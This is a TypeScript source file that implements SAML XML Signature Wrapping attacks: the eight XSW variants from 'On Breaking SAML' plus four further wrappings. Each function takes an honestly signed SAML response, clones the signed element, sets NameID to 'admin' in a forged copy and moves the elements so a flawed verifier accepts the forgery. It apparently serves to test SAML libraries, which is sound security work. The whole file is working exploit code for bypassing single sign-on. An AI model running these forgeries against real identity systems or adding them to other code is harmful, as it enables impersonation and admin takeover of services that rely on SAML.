import { DOMParser, type Element } from '@xmldom/xmldom'
import type { Forgery } from './saml.ts'

const read = (xml: string): Element =>
  new DOMParser().parseFromString(xml, 'text/xml').documentElement as Element
const first = (root: Element, name: string): Element => root.getElementsByTagNameNS('*', name)[0] as Element
const copyOf = (element: Element): Element => element.cloneNode(true) as Element
const remove = (element: Element): Element => {
  element.parentNode?.removeChild(element)
  return element
}

/** The attacker’s own words in a copy of what was signed. */
function evil(element: Element, id = '_evil'): Element {
  element.setAttribute('ID', id)
  const name = first(element, 'NameID')
  name.textContent = 'admin'
  return element
}

/**
 * The eight of “On Breaking SAML” (Somorovsky et al., USENIX Security 2012), as SAML Raider numbers
 * them.
 */
export const wrappings: readonly Forgery[] = [
  {
    name: 'XSW1: the signed response inside the signature of a forged one',
    signs: 'response',
    of(response) {
      const root = read(response)
      const original = copyOf(root)
      remove(first(original, 'Signature'))
      evil(root)
      first(root, 'Signature').appendChild(original)
      return String(root)
    },
  },
  {
    name: 'XSW2: the signed response beside the signature',
    signs: 'response',
    of(response) {
      const root = read(response)
      const original = copyOf(root)
      remove(first(original, 'Signature'))
      evil(root)
      root.insertBefore(original, first(root, 'Signature'))
      return String(root)
    },
  },
  {
    name: 'XSW3: a forged assertion before the signed one',
    signs: 'assertion',
    of(response) {
      const root = read(response)
      const assertion = first(root, 'Assertion')
      const forged = evil(copyOf(assertion))
      remove(first(forged, 'Signature'))
      root.insertBefore(forged, assertion)
      return String(root)
    },
  },
  {
    name: 'XSW4: the signed assertion inside a forged one',
    signs: 'assertion',
    of(response) {
      const root = read(response)
      const assertion = first(root, 'Assertion')
      const forged = evil(copyOf(assertion))
      remove(first(forged, 'Signature'))
      root.replaceChild(forged, assertion)
      forged.appendChild(assertion)
      return String(root)
    },
  },
  {
    name: 'XSW5: the signature in a forged assertion, the signed one at the end',
    signs: 'assertion',
    of(response) {
      const root = read(response)
      const assertion = first(root, 'Assertion')
      const original = copyOf(assertion)
      remove(first(original, 'Signature'))
      evil(assertion)
      root.appendChild(original)
      return String(root)
    },
  },
  {
    name: 'XSW6: the signed assertion inside the signature of a forged one',
    signs: 'assertion',
    of(response) {
      const root = read(response)
      const assertion = first(root, 'Assertion')
      const original = copyOf(assertion)
      remove(first(original, 'Signature'))
      evil(assertion)
      first(assertion, 'Signature').appendChild(original)
      return String(root)
    },
  },
  {
    name: 'XSW7: a forged assertion among extensions',
    signs: 'assertion',
    of(response) {
      const root = read(response)
      const assertion = first(root, 'Assertion')
      const extensions = root.ownerDocument?.createElementNS(root.namespaceURI, 'samlp:Extensions') as Element
      const forged = evil(copyOf(assertion), assertion.getAttribute('ID') ?? '')
      remove(first(forged, 'Signature'))
      extensions.appendChild(forged)
      root.insertBefore(extensions, assertion)
      return String(root)
    },
  },
  {
    name: 'XSW8: the signed assertion in an Object of the signature',
    signs: 'assertion',
    of(response) {
      const root = read(response)
      const assertion = first(root, 'Assertion')
      const original = copyOf(assertion)
      const signature = first(assertion, 'Signature')
      remove(first(original, 'Signature'))
      evil(assertion, original.getAttribute('ID') ?? '')
      const object = root.ownerDocument?.createElementNS(signature.namespaceURI, 'ds:Object') as Element
      object.appendChild(original)
      signature.appendChild(object)
      return String(root)
    },
  },
]

/** What else can be done with one honest response. */
export const otherWrappings: readonly Forgery[] = [
  {
    name: 'a forged assertion with the signed one in its Advice',
    signs: 'assertion',
    of(response) {
      const root = read(response)
      const assertion = first(root, 'Assertion')
      const forged = evil(copyOf(assertion))
      remove(first(forged, 'Signature'))
      const advice = root.ownerDocument?.createElementNS(assertion.namespaceURI, 'saml:Advice') as Element
      root.replaceChild(forged, assertion)
      advice.appendChild(assertion)
      forged.appendChild(advice)
      return String(root)
    },
  },
  {
    name: 'the signed assertion in the status of a response with a forged one',
    signs: 'assertion',
    of(response) {
      const root = read(response)
      const assertion = first(root, 'Assertion')
      const forged = evil(copyOf(assertion))
      remove(first(forged, 'Signature'))
      root.replaceChild(forged, assertion)
      const detail = root.ownerDocument?.createElementNS(root.namespaceURI, 'samlp:StatusDetail') as Element
      detail.appendChild(assertion)
      first(root, 'Status').appendChild(detail)
      return String(root)
    },
  },
  {
    name: 'a forged assertion in no namespace before the signed one',
    signs: 'assertion',
    of: (response) =>
      response.replace('<saml:Assertion ', '<Assertion xmlns="" ID="_e" Version="2.0"/><saml:Assertion '),
  },
  {
    name: 'the same ID twice, in another letter case of its name',
    signs: 'assertion',
    of(response) {
      const id = /<saml:Assertion[^>]* ID="([^"]+)"/.exec(response)?.[1]
      return response.replace('<samlp:Status>', `<samlp:Status Id="${id}">`)
    },
  },
]
